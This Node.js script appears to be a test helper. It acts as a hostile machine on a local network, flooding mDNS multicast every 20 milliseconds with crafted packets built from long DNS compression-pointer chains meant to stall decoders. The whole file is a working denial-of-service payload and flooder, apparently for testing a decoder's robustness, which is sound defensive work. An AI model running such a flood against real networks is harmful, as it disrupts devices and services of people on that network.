/**
 * A hostile computer on the local network: floods it with mDNS packets whose names lead through long
 * chains of pointers, each of which would keep a decoder busy for half a second. Prints `flooding` at its start.
 */
'use strict'
const { createSocket } = require('node:dgram')

const bytes = Buffer.alloc(65_000)
bytes.writeUInt16BE(0x8400, 2)
Buffer.from([0, 0, 10, 0, 1, 0, 0, 0, 0]).copy(bytes, 12)
const label = Buffer.from('\t_thruflux\0')
label.copy(bytes, 23)
let last = 23
let at = last + label.length
for (; at < 0x3ffe; at += 2) {
  bytes.writeUInt16BE(0xc000 | last, at)
  last = at
}
bytes.writeUInt16BE(at - 23, 21)
let records = 1
for (; at + 12 <= bytes.length; at += 12) {
  bytes.writeUInt16BE(0xc000 | last, at)
  bytes.writeUInt16BE(10, at + 2)
  records += 1
}
bytes.writeUInt16BE(records, 6)

const [, , address] = process.argv
const socket = createSocket('udp4').bind(0, address, () => {
  socket.setMulticastInterface(address)
  setInterval(() => socket.send(bytes, 5353, '224.0.0.251'), 20)
  setTimeout(() => process.stdout.write('flooding\n'), 200)
})
